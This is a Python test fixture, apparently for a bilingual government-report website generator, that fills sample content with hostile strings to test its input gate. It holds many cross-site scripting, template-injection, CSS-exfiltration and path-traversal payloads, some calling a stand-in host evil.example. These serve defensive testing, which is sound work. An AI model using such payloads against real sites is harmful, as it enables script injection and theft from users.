"""The mini content with hostile strings in every text that the models know, as far as the gate lets them in.

`poison` writes it; `tests/unit/test_hostile.py` says what the gate refuses instead, `tests/browser/test_hostile.py`
opens what is built from it. A script that ran would call `hacked()`. There are no digits, which the gate would count.
"""

from __future__ import annotations

import shutil
from hashlib import sha256
from pathlib import Path
from typing import Any

import yaml

from tests.mini import copy
from tests.unit.published import CORRECTIONS, HOST
from workreport.options import Options

LONG = "Donaudampfschifffahrtsgesellschaft" * 12

SOURCE = " ".join(
    (
        '" onmouseover="hacked()" x="\'',
        "' onfocus='hacked()' autofocus='",
        "javascript:hacked()",
        "&lt;script&gt;hacked()&lt;/script&gt;",
        "[x](javascript:hacked())",
        "< script>hacked()< /script>",
        "{{ self.hacked() }} {% include '../secret' %} ${hacked()} {hacked} %(hacked)s",
        "]]> --> */ \\x&lt;script\\x>hacked()",
        "';hacked();//",
        "@import 'https://evil.example/x.css'; x{background:url(https://evil.example/y)}",
    )
)
"""What the gate lets stand in a report's own text: everything but tags, which it refuses."""

TEXT = " ".join(
    (
        "=HYPERLINK(hacked())",
        "<script>hacked()</script>",
        "<script src=https://evil.example/x.js></script>",
        "<img src=x onerror=hacked()>",
        "<img src=//evil.example/pixel.png>",
        "\"><svg onload=hacked()>",
        "'><svg/onload=hacked()>",
        "</title></desc></text></svg><script>hacked()</script>",
        "</script><script>hacked()</script>",
        "</style><style>@import 'https://evil.example/x.css';</style>",
        "<style>*{background:url(https://evil.example/z)}</style>",
        "<iframe srcdoc='<script>parent.hacked()</script>'></iframe>",
        "<base href=https://evil.example/><meta http-equiv=refresh content=\"x;url=https://evil.example/\">",
        "<!--<![CDATA[<a href=javascript:hacked()>x</a>]]>",
        "<math><mtext><mglyph><style><!--</style><img title=\"--><img src=x onerror=hacked()>\">",
        "&lt;script&gt;hacked()&lt;/script&gt; &LT;script&GT;hacked()",
        "var(--chart-ink) var(--chart-x) {a|b} {b} {@value} \\n",
        "href=\"nowhere.html\" src=\"nowhere.js\" id=\"main\"",
        SOURCE,
        LONG,
    )
)  # fmt: skip
"""What stands in a text that is no Markdown."""

MARKDOWN = "\n\n".join(
    (
        TEXT,
        "[a](javascript:hacked()) [b](JaVaScRiPt:hacked()) [c](javascript&colon;hacked())",
        "[f](&#xD;javascript:hacked()) [g](<javascript:hacked()>) [h](vbscript:hacked())",
        "[i](data:text/html,<script>hacked()</script>) [j](DATA:text/html;base,PHNjcmlwd) [k](blob:x) [l](file:///x)",
        "[m](//evil.example/) [p](https:evil.example) [q](feed:javascript:x)",
        "<javascript:hacked()> <data:text/html,x> <vbscript:hacked()>",
        "[r](https://example.org/\"onmouseover=\"hacked() \"x\\\" onmouseover=\\\"hacked()\") [s]",
        "![t](javascript:hacked()) ![u](https://evil.example/u.png \"x\") ![v](data:image/svg+xml,x)",
        "[s]: javascript:hacked() \"x\"",
        "``` \" onmouseover=\"hacked()\n</code></pre><script>hacked()</script>\n```",
        "`<script>hacked()</script>` **<b onclick=hacked()>** _<img src=x onerror=hacked()>_",
        "<div onclick=hacked()>\n<script>hacked()</script>\n</div>",
        "[w](https://example.org/?a=b&lt;script&gt; '\"><script>hacked()</script>')",
    )
)  # fmt: skip
"""What stands in a summary and in the contact, which are Markdown."""

REFUSED = (
    "[d](java&#xA;script:hacked())",
    "[e](java&Tab;script:hacked())",
    "[n](/\\\\evil.example/)",
    "[o](\\\\\\\\evil.example/)",
    "[x](../../../../etc/passwd)",
    "[y](/etc/passwd)",
)
"""Markdown that makes a relative address, which the link check finds to lead nowhere."""

_MARKDOWN_FIELDS = ("summary", "contact")
_FROM_SOURCE = ("words", "title", "issuer", "speaker")
"""Texts of a report's own file, and a goal in words: they must stand in the source."""


def _changed(value: Any, field: str, own: bool) -> Any:
    """A value of a content file with every text in two languages made hostile.

    `own`: the report's own file. The title of a section is a heading of the source.
    """
    if isinstance(value, list):
        return [_changed(item, field, own) for item in value]
    if not isinstance(value, dict):
        return value
    if set(value) == {"zh", "en"}:
        if field == "words" or (own and field in _FROM_SOURCE):
            return value
        if field in _MARKDOWN_FIELDS:
            return {lang: f"{text.strip()}\n\n{MARKDOWN}" for lang, text in value.items()}
        return {lang: f"{TEXT} {text.strip()} {TEXT}" for lang, text in value.items()}
    heading = value.get("title") if "paragraphs" in value else None
    changed = {name: _changed(item, name, own) for name, item in value.items()}
    return {**changed, "title": heading} if heading else changed


def _replace(path: Path, *pairs: tuple[str, str]) -> None:
    text = path.read_text("utf-8")
    for old, new in pairs:
        assert old in text, f"{path.name} has no {old}"
        text = text.replace(old, new)
    path.write_text(text, "utf-8")


def _dump(path: Path, data: Any) -> None:
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=1 << 20), "utf-8")


def poison(folder: Path) -> Options:
    """A copy of the mini content, hostile, with templates and assets, in a folder of its own."""
    options = copy(folder)
    content = options.content
    with open(content / "site.yaml", "a", encoding="utf-8") as file:
        # Without an address, since links off the site would be taken for a hostile text's.
        file.write("".join(line for line in HOST.splitlines(True) if "base_url" not in line))
    (content / "corrections.yaml").write_text(CORRECTIONS.lstrip(), "utf-8")
    for path in sorted(content.rglob("*.yaml")):
        if path.name in ("units.yaml", "permalinks.yaml") or path.name.endswith("waivers.yaml"):
            continue
        data = yaml.safe_load(path.read_text("utf-8"))
        _dump(path, _changed(data, "", path.name.endswith("report.yaml")))
    # Names that the report prints, a quote, and the report's own title: in the source and in what refers to it.
    zh, en = content / "source/2023.zh.md", content / "source/2023.en.md"
    _replace(
        zh,
        ("引进企业4家，", f"引进企业4家{SOURCE}，"),
        ("样例产业园", f"样例产业园{SOURCE}"),
        ("# 样例区2023年政府工作报告", f"# 样例区2023年政府工作报告{SOURCE}"),
        ("样例区区长 甲某", f"样例区区长 甲某{SOURCE}"),
        ("社区公园", f"社区公园{SOURCE}"),
        ("与经济发展同步增长", f"与经济发展同步增长{SOURCE}"),
        ("稳定经济运行。**", f"稳定经济运行{SOURCE}。**"),
    )
    _replace(
        en,
        ("4 enterprises were brought in", f"4 enterprises {SOURCE} were brought in"),
        ("# 2023 Work Report of Sample District", f"# 2023 Work Report of Sample District {SOURCE}"),
        ("community parks", f"community parks {SOURCE}"),
        ("in step with the economy", f"in step with the economy {SOURCE}"),
        ("District Mayor Jia", f"District Mayor Jia {SOURCE}"),
        ("Keep the economy stable.**", f"Keep the economy stable {SOURCE}.**"),
    )
    received = content / "source/2023.original.md"
    digest = sha256(received.read_bytes()).hexdigest()
    shutil.copy(zh, received)
    _replace(content / "source/2023.report.yaml", (digest, sha256(received.read_bytes()).hexdigest()))
    overview, economy = content / "2022_review/01-overview.yaml", content / "2023_tasks/01-economy.yaml"
    data = yaml.safe_load(overview.read_text("utf-8"))
    data["metrics"][4]["quote"] = f"引进企业4家{SOURCE}"
    _dump(overview, data)
    data = yaml.safe_load((content / "2022_review/02-city.yaml").read_text("utf-8"))
    data["metrics"][1]["quote"] = f"新建公园5个，其中社区公园{SOURCE}2个"
    data["metrics"][1]["of"] = f"其中社区公园{SOURCE}2个"
    _dump(content / "2022_review/02-city.yaml", data)
    data = yaml.safe_load(economy.read_text("utf-8"))
    first = data["commitments"][0]
    first["quote"] = first["quote"].replace("与经济发展同步增长", f"与经济发展同步增长{SOURCE}")
    first["targets"][1]["words"] = {
        "zh": f"与经济发展同步增长{SOURCE}",
        "en": f"growth in step with the economy {SOURCE}",
    }
    data["title"] = {"zh": f"稳定经济运行{SOURCE}", "en": f"Keep the economy stable {SOURCE}"}
    _dump(economy, data)
    data = yaml.safe_load((content / "source/2023.report.yaml").read_text("utf-8"))
    data["title"] = {lang: f"{text}{SOURCE}" for lang, text in data["title"].items()}
    data["speaker"] = {lang: f"{text}{SOURCE}" for lang, text in data["speaker"].items()}
    _dump(content / "source/2023.report.yaml", data)
    data = yaml.safe_load((content / "glossary.yaml").read_text("utf-8"))
    data["terms"][2].update(zh=f"社区公园{SOURCE}", en=f"community parks {SOURCE}", also=[f"parks {TEXT}"])
    _dump(content / "glossary.yaml", data)
    data = yaml.safe_load((content / "places.yaml").read_text("utf-8"))
    data["places"][0].update(zh=f"样例产业园{SOURCE}", en=f"Sample Park for Industry {TEXT}")
    _dump(content / "places.yaml", data)
    return options
